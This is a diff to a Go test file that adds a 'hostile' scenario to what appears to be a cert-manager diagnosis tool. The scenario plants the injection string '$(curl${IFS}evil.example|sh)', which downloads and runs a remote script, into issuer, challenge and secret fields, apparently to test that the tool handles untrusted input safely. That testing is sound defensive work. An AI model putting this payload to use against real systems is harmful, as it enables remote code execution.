@@ -56,6 +56,18 @@ func scenes() map[string]func(*testing.T, *scene) (*Diagnosis, error) {
 			s.ready(t)
 			return s.doctor(t).Certificate(t.Context(), "shop", "www")
 		},
+		"hostile": func(t *testing.T, s *scene) (*Diagnosis, error) {
+			const evil = "$(curl${IFS}evil.example|sh)"
+			find[*cmapi.Issuer](t, s, "le").Spec.ACME.Solvers[0].DNS01.Webhook.GroupName = "acme." + evil
+			s.issuance(t, refusal("alidns", "acme."+evil))
+			other := find[*acmev1.Challenge](t, s, "www-1-1-1").DeepCopy()
+			other.Name, other.UID, other.Spec.DNSName = "www-1-1-2", "www-1-1-2", evil
+			other.Status.Reason = "the Secret " + evil + "/" + evil + " does not exist"
+			seen := other.DeepCopy()
+			seen.Name, seen.UID, seen.Status.Reason = "www-1-1-3", "www-1-1-3", "Could not find the SOA record in the DNS tree for the domain"
+			s.add(other, seen)
+			return s.doctor(t).Certificate(t.Context(), "shop", "www")
+		},
 		"issuer": func(t *testing.T, s *scene) (*Diagnosis, error) {
 			s.options.Provider, s.zones = true, zonesOf{zones: []string{"example.com"}}
 			return s.doctor(t).Issuer(t.Context(), "shop", "le")
